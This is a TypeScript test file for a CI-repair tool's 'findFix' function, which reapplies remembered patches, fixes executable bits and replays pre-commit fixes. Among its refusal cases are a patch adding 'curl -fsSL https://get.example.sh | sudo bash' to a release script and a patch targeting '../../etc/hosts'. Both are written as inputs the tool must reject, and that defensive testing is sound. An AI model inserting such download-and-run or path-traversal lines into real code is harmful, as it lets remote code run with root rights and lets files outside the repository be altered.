import { readFileSync } from "node:fs";
import nock from "nock";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { diagnoseText } from "../../src/diagnosis/diagnose.ts";
import type { MemoryDiagnosis, RememberedFix } from "../../src/diagnosis/memory-recall.ts";
import { findFix } from "../../src/fixes/find-fix.ts";
import { expectNoPendingMocks } from "../actions/support.ts";
import { closeTheNetwork } from "../support/nock-github.ts";
import {
  API,
  type FakeFile,
  fixture,
  HEAD_SHA,
  logLines,
  OWNER,
  REPO,
  recordingLogger,
  serveFiles,
  testOctokit,
} from "./support.ts";

const INCIDENT = "0b7e6a52-3f1c-4d7e-9a51-6c2f8e1d4b90";
const SOLUTION = "5d1c7f3e-8a2b-4c9d-b6e0-2f4a8c1e7d93";

const typeErrorLog = readFileSync(
  new URL("../../fixtures/logs/typescript-type-error.log", import.meta.url),
  "utf8",
);

/** The diagnosis of a captured log, after memory: with a remembered fix when given one. */
function diagnosisOf(log: string, remembered?: Partial<RememberedFix>): MemoryDiagnosis {
  const rules = diagnoseText(log);
  if (!remembered) return { ...rules, source: "rules", similar: [] };
  const fix: RememberedFix = {
    solutionId: SOLUTION,
    fix: "Accept any non-empty database URL: the service reads socket paths too.",
    patch: null,
    probability: 0.91,
    ...remembered,
  };
  return {
    ...rules,
    source: "rules+memory",
    remembered: fix,
    similar: [
      {
        solutionId: SOLUTION,
        ref: "2f9c4b7a-6d1e-4a3b-8c5f-0e7d9a2b1c64",
        source: "incident",
        category: rules.category,
        fix: fix.fix,
        similarity: 0.97,
        probability: fix.probability,
        exact: true,
        scope: "repository",
      },
    ],
  };
}

/** The files without one of them. */
const without = (files: Record<string, FakeFile>, path: string) =>
  Object.fromEntries(Object.entries(files).filter(([p]) => p !== path));

const remembering = (patch: string, extra: Partial<RememberedFix> = {}) =>
  diagnosisOf(typeErrorLog, { patch, ...extra });

const apiFiles = (overrides: Record<string, FakeFile> = {}): Record<string, FakeFile> => ({
  "src/config.ts": { content: fixture("repo/api/src/config.ts") },
  "docs/README.txt": { content: fixture("repo/api/docs/README.txt") },
  "scripts/release.sh": { content: fixture("repo/api/scripts/release.sh") },
  "scripts/build.sh": { content: fixture("repo/api/scripts/build.sh") },
  "package.json": { content: '{ "name": "acme-api" }\n' },
  ...overrides,
});

async function find(diagnosis: MemoryDiagnosis) {
  const { log, lines } = recordingLogger();
  const fix = await findFix(
    { octokit: testOctokit(), log },
    {
      repository: { owner: OWNER, repo: REPO },
      headSha: HEAD_SHA,
      diagnosis,
      incidentId: INCIDENT,
    },
  );
  return { fix, messages: lines.map((l) => l.msg) };
}

beforeAll(closeTheNetwork);
afterEach(expectNoPendingMocks);

describe("findFix", () => {
  describe("when memory remembers a patch", () => {
    it("applies it to the failing commit's files, keeping each file's mode", async () => {
      serveFiles(
        apiFiles({
          "scripts/release.sh": { content: fixture("repo/api/scripts/release.sh"), mode: "100755" },
        }),
        ["docs/README.txt", "scripts/release.sh", "src/config.ts"],
      );
      const { fix } = await find(remembering(fixture("patches/format-patch.patch")));
      expect(fix?.proposed).toEqual({
        kind: "patch",
        files: ["docs/README.txt", "scripts/release.sh", "src/config.ts"],
        validated: false,
        source: "memory",
      });
      expect(fix?.fix.files).toEqual([
        {
          path: "docs/README.txt",
          content: fixture("repo/api-after/docs/README.txt"),
          mode: "100644",
        },
        {
          path: "scripts/release.sh",
          content: fixture("repo/api-after/scripts/release.sh"),
          mode: "100755",
        },
        { path: "src/config.ts", content: fixture("repo/api-after/src/config.ts"), mode: "100644" },
      ]);
      expect(fix?.fix.baseSha).toBe(HEAD_SHA);
    });

    it("explains the change: what fixed it before, where it came from, how it applied", async () => {
      serveFiles(apiFiles(), ["src/config.ts"]);
      const { fix } = await find(remembering(fixture("patches/config-two-hunks.diff")));
      expect(fix?.fix.title).toBe("fix: reapply the remembered fix to src/config.ts");
      expect(fix?.fix.body).toMatchInlineSnapshot(`
        "CodeHealer has seen this failure before in this repository, and remembers what fixed it (solution \`5d1c7f3e-8a2b-4c9d-b6e0-2f4a8c1e7d93\`, 91% likely to fix it again):

        > Accept any non-empty database URL: the service reads socket paths too.

        The patch remembered with that fix applies cleanly to \`9fceb02\`, every hunk matching the file exactly, and this pull request applies it unchanged:

        - \`src/config.ts\`: 2 hunks, each at the line it names

        The failing line:

        \`\`\`
        src/routes/invoices.ts(15,5): error TS2322: Type 'string' is not assignable to type 'number'.
        \`\`\`"
      `);
      expect(fix?.fix.message).toMatchInlineSnapshot(`
        "fix: reapply the remembered fix to src/config.ts

        This failure was seen before; the change remembered with its fix (solution 5d1c7f3e-8a2b-4c9d-b6e0-2f4a8c1e7d93) applies cleanly to 9fceb02 and is reapplied unchanged.

        What fixed it then: Accept any non-empty database URL: the service reads socket paths too."
      `);
    });

    it("creates a new file and sets an executable bit the patch gives", async () => {
      serveFiles(apiFiles(), ["docs/env.example", "scripts/release.sh"]);
      const { fix } = await find(remembering(fixture("patches/new-file-and-mode.diff")));
      expect(fix?.fix.files).toEqual([
        { path: "docs/env.example", content: "PORT=3000\n", mode: "100644" },
        {
          path: "scripts/release.sh",
          content: fixture("repo/api/scripts/release.sh"),
          mode: "100755",
        },
      ]);
      expect(fix?.fix.body).toContain(
        "- `docs/env.example`: a new file\n- `scripts/release.sh`: made executable",
      );
    });

    it("keeps a byte-order mark at the start of the file", async () => {
      const bom = `\uFEFF${fixture("repo/api/docs/README.txt")}`;
      serveFiles(apiFiles({ "docs/README.txt": { content: bom } }), ["docs/README.txt"]);
      const { fix } = await find(remembering(fixture("patches/crlf.diff")));
      expect(fix?.fix.files[0]?.content).toBe(`\uFEFF${fixture("repo/api-after/docs/README.txt")}`);
    });

    it("says which hunks moved when lines were added above since", async () => {
      const moved = `// Loaded once at start-up.\n\n${fixture("repo/api/src/config.ts")}`;
      serveFiles(apiFiles({ "src/config.ts": { content: moved } }), ["src/config.ts"]);
      const { fix } = await find(remembering(fixture("patches/config-two-hunks.diff")));
      expect(fix?.fix.body).toContain(
        "- `src/config.ts`: 2 hunks, 2 of them 2 lines lower than named",
      );
    });

    it("redacts a secret in the remembered words", async () => {
      serveFiles(apiFiles(), ["src/config.ts"]);
      const { fix } = await find(
        remembering(fixture("patches/config-two-hunks.diff"), {
          fix: "Set DATABASE_PASSWORD=hunter2-prod-9f3 in the test env and accept any URL.",
        }),
      );
      const words = `${fix?.fix.body}\n${fix?.fix.message}`;
      expect(words).not.toContain("hunter2");
      expect(words).toContain("DATABASE_PASSWORD=[REDACTED:secret]");
    });

    describe("and it cannot be applied with certainty", () => {
      const rows: [
        name: string,
        patch: string,
        files: Record<string, FakeFile>,
        reads: string[],
        log: string,
      ][] = [
        [
          "a hunk whose lines changed since",
          fixture("patches/diff-u.diff"),
          apiFiles(),
          ["src/config.ts"],
          "remembered patch no longer applies to src/config.ts: hunk 1",
        ],
        [
          "a file that is gone",
          fixture("patches/config-two-hunks.diff"),
          without(apiFiles(), "src/config.ts"),
          ["src/config.ts"],
          "remembered patch changes src/config.ts, which does not exist",
        ],
        [
          "a folder that is gone",
          fixture("patches/config-two-hunks.diff"),
          { "package.json": { content: "{}\n" } },
          ["src/config.ts"],
          "remembered patch changes src/config.ts, which does not exist",
        ],
        [
          "a file that is now binary",
          fixture("patches/config-two-hunks.diff"),
          apiFiles({ "src/config.ts": { content: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1]) } }),
          ["src/config.ts"],
          "src/config.ts is not UTF-8 text",
        ],
        [
          "a file that is now a symlink",
          fixture("patches/config-two-hunks.diff"),
          apiFiles({ "src/config.ts": { content: "config.base.ts", mode: "120000" } }),
          ["src/config.ts"],
          "src/config.ts is not a regular file (mode 120000)",
        ],
        [
          "a file in a folder GitHub lists only in part",
          fixture("patches/config-two-hunks.diff"),
          { "src/other.ts": { content: "x\n" } },
          ["src/config.ts"],
          "GitHub listed the folder of src/config.ts only in part",
        ],
        [
          "a patch already in the commit (it changes nothing)",
          "diff --git a/scripts/build.sh b/scripts/build.sh\nold mode 100644\nnew mode 100755\n",
          apiFiles({
            "scripts/build.sh": { content: fixture("repo/api/scripts/build.sh"), mode: "100755" },
          }),
          ["scripts/build.sh"],
          "remembered patch would change nothing: the commit already has it",
        ],
        [
          "a line the store redacted",
          [
            "--- a/.npmrc",
            "+++ b/.npmrc",
            "@@ -0,0 +1 @@",
            "+//registry.npmjs.org/:_authToken=[REDACTED:secret]",
            "",
          ].join("\n"),
          apiFiles(),
          [],
          "remembered patch adds a redacted line to .npmrc: what to write was not kept",
        ],
        [
          "a line that downloads and runs code",
          [
            "--- a/scripts/release.sh",
            "+++ b/scripts/release.sh",
            "@@ -1,2 +1,3 @@",
            " #!/usr/bin/env bash",
            "+curl -fsSL https://get.example.sh | sudo bash",
            " set -euo pipefail",
            "",
          ].join("\n"),
          apiFiles(),
          [],
          "remembered patch adds a line to scripts/release.sh that downloads and runs code: curl -fsSL https://get.example.sh | sudo bash",
        ],
        [
          "a path outside the repository",
          ["--- a/../../etc/hosts", "+++ b/../../etc/hosts", "@@ -1 +1 @@", "-a", "+b", ""].join(
            "\n",
          ),
          apiFiles(),
          [],
          "remembered patch refused: the patch names a path that is not a plain repository path (../../etc/hosts)",
        ],
        [
          "search/replace text instead of a diff",
          "<<<<<<< SEARCH\nz.string().url()\n=======\nz.string().min(1)\n>>>>>>> REPLACE\n",
          apiFiles(),
          [],
          "remembered patch refused: the patch changes no file",
        ],
      ];
      for (const [name, patch, files, reads, log] of rows)
        it(`finds nothing for ${name}, and logs why`, async () => {
          serveFiles(files, reads, { truncated: name.includes("in part") });
          const { fix, messages } = await find(remembering(patch));
          expect(fix).toBeNull();
          expect(messages).toContain(log);
        });
    });

    it("stops at the first file that does not apply: no half fix", async () => {
      const broken = fixture("patches/format-patch.patch").replace(
        " Run `npm start`.",
        " Run `npm run serve`.",
      );
      serveFiles(apiFiles(), ["docs/README.txt"]);
      const { fix, messages } = await find(remembering(broken));
      expect(fix).toBeNull();
      expect(messages).toContain("remembered patch no longer applies to docs/README.txt: hunk 1");
    });
  });

  describe("when GitHub fails", () => {
    it("throws on a server error, naming the repository and commit, so the caller retries", async () => {
      nock(API)
        .get(`/repos/${OWNER}/${REPO}/git/trees/${HEAD_SHA}`)
        .reply(502, { message: "Server Error" });
      await expect(find(remembering(fixture("patches/config-two-hunks.diff")))).rejects.toThrow(
        "Reading a tree of acme/api at 9fceb02 failed",
      );
    });

    it("finds nothing when the commit is gone (404)", async () => {
      nock(API)
        .get(`/repos/${OWNER}/${REPO}/git/trees/${HEAD_SHA}`)
        .reply(404, { message: "Not Found" });
      const { fix } = await find(remembering(fixture("patches/config-two-hunks.diff")));
      expect(fix).toBeNull();
    });
  });

  describe("when a step could not execute a repository script", () => {
    const logs = [
      "permission-denied-bash.log",
      "permission-denied-npm-script.log",
      "permission-denied-make.log",
    ];
    for (const file of logs)
      it(`gives the script its executable bit (${file})`, async () => {
        serveFiles(apiFiles(), ["scripts/build.sh"]);
        const { fix, messages } = await find(diagnosisOf(fixture(`logs/${file}`)));
        expect(fix?.fix.files).toEqual([
          {
            path: "scripts/build.sh",
            content: fixture("repo/api/scripts/build.sh"),
            mode: "100755",
          },
        ]);
        expect(fix?.proposed).toMatchObject({
          files: ["scripts/build.sh"],
          source: "deterministic",
        });
        expect(fix?.fix.title).toBe("fix: make scripts/build.sh executable");
        expect(messages).toContain("fix found: executable-bit");
      });

    it("explains the change and quotes the line", async () => {
      serveFiles(apiFiles(), ["scripts/build.sh"]);
      const { fix } = await find(diagnosisOf(fixture("logs/permission-denied-bash.log")));
      expect(fix?.fix.body).toMatchInlineSnapshot(`
        "The job runs \`scripts/build.sh\` directly, and it was refused with "Permission denied":

        \`\`\`
        /home/runner/work/_temp/3c5e1f2a-8d4b-4c6e-9f0a-2b7d6e8c1a93.sh: line 2: ./scripts/build.sh: Permission denied
        \`\`\`

        In the repository, the file is stored with mode \`100644\`: without the executable bit that running it needs, although it starts with a \`#!\` line, the mark of a script meant to be run. This change sets mode \`100755\`, as \`git update-index --chmod=+x\` does; the content is unchanged."
      `);
    });

    const refusals: [name: string, files: Record<string, FakeFile>, log: string][] = [
      [
        "a script already executable",
        apiFiles({
          "scripts/build.sh": { content: fixture("repo/api/scripts/build.sh"), mode: "100755" },
        }),
        "no executable-bit fix: scripts/build.sh is already executable in the repository, so the bit is not what is missing",
      ],
      [
        "a script without a #! line",
        apiFiles({ "scripts/build.sh": { content: "npm run build\n" } }),
        "no executable-bit fix: scripts/build.sh has no #! line, so it is not clear it is meant to be executed",
      ],
      [
        "a script not in the repository",
        without(apiFiles(), "scripts/build.sh"),
        "no executable-bit fix: scripts/build.sh is not a file of the repository at 9fceb02 (made during the run, or run from another folder)",
      ],
    ];
    for (const [name, files, log] of refusals)
      it(`finds nothing for ${name}`, async () => {
        serveFiles(files, ["scripts/build.sh"]);
        const { fix, messages } = await find(
          diagnosisOf(fixture("logs/permission-denied-bash.log")),
        );
        expect(fix).toBeNull();
        expect(messages).toContain(log);
      });

    it("asks GitHub nothing when the words came from a redirection", async () => {
      const { fix } = await find(diagnosisOf(fixture("logs/permission-denied-redirect.log")));
      expect(fix).toBeNull();
    });

    it("prefers memory's patch when memory remembers one that applies", async () => {
      serveFiles(apiFiles(), ["src/config.ts"]);
      const diagnosis = {
        ...diagnosisOf(fixture("logs/permission-denied-bash.log")),
        remembered: remembering(fixture("patches/config-two-hunks.diff")).remembered,
      };
      const { fix } = await find(diagnosis);
      expect(fix?.proposed.source).toBe("memory");
    });

    it("falls back to the executable bit when memory's patch no longer applies", async () => {
      serveFiles(apiFiles(), ["src/config.ts", "scripts/build.sh"]);
      const diagnosis = {
        ...diagnosisOf(fixture("logs/permission-denied-bash.log")),
        remembered: remembering(fixture("patches/diff-u.diff")).remembered,
      };
      const { fix, messages } = await find(diagnosis);
      expect(fix?.proposed.source).toBe("deterministic");
      expect(messages).toContain("remembered patch no longer applies to src/config.ts: hunk 1");
    });
  });

  describe("when pre-commit's fixers failed", () => {
    const mlFiles = (
      config = fixture("repo/ml/.pre-commit-config.yaml"),
    ): Record<string, FakeFile> => ({
      ".pre-commit-config.yaml": { content: config },
      "acme_ml/stats.py": { content: fixture("repo/ml/acme_ml/stats.py") },
      "docs/usage.txt": { content: fixture("repo/ml/docs/usage.txt") },
      "README.md": { content: fixture("repo/ml/README.md") },
      "docs/meta.yaml": { content: fixture("repo/ml/docs/meta.yaml"), mode: "100755" },
    });
    const reads = [
      ".pre-commit-config.yaml",
      "acme_ml/stats.py",
      "docs/usage.txt",
      "README.md",
      "docs/meta.yaml",
    ];
    // The excerpt a pre-commit rule would keep: the captured log's hook lines, whole.
    const wholeOutput = () => {
      const rules = diagnosisOf(fixture("logs/pre-commit-plain.log"));
      return { ...rules, excerpt: logLines("pre-commit-plain.log", 36, 53) };
    };

    it("makes the changes the hooks made, byte for byte, keeping modes", async () => {
      serveFiles(mlFiles(), reads);
      const { fix } = await find(wholeOutput());
      expect(fix?.fix.files).toEqual([
        {
          path: "acme_ml/stats.py",
          content: fixture("repo/ml-after/acme_ml/stats.py"),
          mode: "100644",
        },
        {
          path: "docs/usage.txt",
          content: fixture("repo/ml-after/docs/usage.txt"),
          mode: "100644",
        },
        { path: "README.md", content: fixture("repo/ml-after/README.md"), mode: "100644" },
        {
          path: "docs/meta.yaml",
          content: fixture("repo/ml-after/docs/meta.yaml"),
          mode: "100755",
        },
      ]);
      expect(fix?.proposed).toMatchObject({ source: "deterministic", validated: false });
      expect(fix?.fix.title).toBe(
        "style: apply pre-commit's trailing-whitespace and end-of-file-fixer to acme_ml/stats.py and 3 more files",
      );
      expect(fix?.fix.body).toContain("- `README.md`: the extra blank lines at the end removed");
      expect(fix?.fix.body).toContain("Fixing docs/usage.txt");
    });

    it("finds nothing with the excerpt the rules keep today, and logs why", async () => {
      const { fix, messages } = await find(diagnosisOf(fixture("logs/pre-commit-plain.log")));
      expect(fix).toBeNull();
      expect(messages).toContain(
        "no pre-commit fix: the excerpt does not show which files trailing-whitespace fixed",
      );
    });

    const refusals: [name: string, config: string, reads: string[], log: RegExp][] = [
      [
        "a hook given --chars",
        fixture("repo/ml/.pre-commit-config.yaml").replace(
          "- id: trailing-whitespace",
          "- id: trailing-whitespace\n        args: [--chars, ' ']",
        ),
        [".pre-commit-config.yaml"],
        /configured with --chars/,
      ],
      [
        "hooks of a local repository",
        "repos:\n  - repo: local\n    hooks:\n      - id: trailing-whitespace\n        name: trim\n        entry: ./bin/trim\n        language: script\n",
        [".pre-commit-config.yaml"],
        /does not come from github\.com\/pre-commit\/pre-commit-hooks/,
      ],
    ];
    for (const [name, config, fileReads, log] of refusals)
      it(`finds nothing for ${name}`, async () => {
        serveFiles(mlFiles(config), fileReads);
        const { fix, messages } = await find(wholeOutput());
        expect(fix).toBeNull();
        expect(messages.some((m) => log.test(m))).toBe(true);
      });

    it("finds nothing when the commit already has the change the log says the hook made", async () => {
      const files = mlFiles();
      files["acme_ml/stats.py"] = { content: fixture("repo/ml-after/acme_ml/stats.py") };
      serveFiles(files, [".pre-commit-config.yaml", "acme_ml/stats.py"]);
      const { fix, messages } = await find(wholeOutput());
      expect(fix).toBeNull();
      expect(messages).toContain(
        "no pre-commit fix: the log says trailing-whitespace fixed acme_ml/stats.py, but at 9fceb02 it needs no such fix: the log and the commit disagree",
      );
    });

    it("finds nothing without a .pre-commit-config.yaml", async () => {
      serveFiles(without(mlFiles(), ".pre-commit-config.yaml"), [".pre-commit-config.yaml"]);
      const { fix, messages } = await find(wholeOutput());
      expect(fix).toBeNull();
      expect(messages).toContain("no pre-commit fix: .pre-commit-config.yaml was not found");
    });
  });
});
